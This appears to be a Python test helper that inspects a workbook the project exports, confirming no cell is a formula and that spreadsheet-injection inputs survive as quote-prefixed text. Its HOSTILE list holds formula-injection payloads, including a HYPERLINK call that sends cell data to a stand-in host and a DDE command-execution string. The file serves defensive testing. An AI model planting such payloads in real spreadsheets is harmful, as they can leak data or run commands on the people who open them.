"""Reading back a workbook the project wrote: its cells as stored, and any formula."""

import io
import re
import zipfile

from python_calamine import CalamineWorkbook

# Text as people may name a unit, a resident or a category, meaning harm in a spreadsheet.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)


def formulas(data: bytes) -> list[str]:
    """Every <f> element of every sheet: a workbook of ours has none in its cells."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [
            f
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
            for f in re.findall(r"<f[ >].*?</f>|<f/>", z.read(name).decode())
        ]


def quote_prefixed_styles(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/styles.xml").decode().count('quotePrefix="1"')


def cell_texts(data: bytes) -> set[str]:
    """Every cell's value, as text, on every sheet (calamine reads the cached values)."""
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {
        str(value)
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for value in row
    }


def assert_text_kept(data: bytes, texts=HOSTILE):
    """Each of `texts` is in the workbook as a string cell, nothing is a formula, and
    the hostile ones carry the quote prefix."""
    assert formulas(data) == []
    cells = cell_texts(data)
    for text in texts:
        assert any(text in cell for cell in cells), text
    assert quote_prefixed_styles(data) >= 1
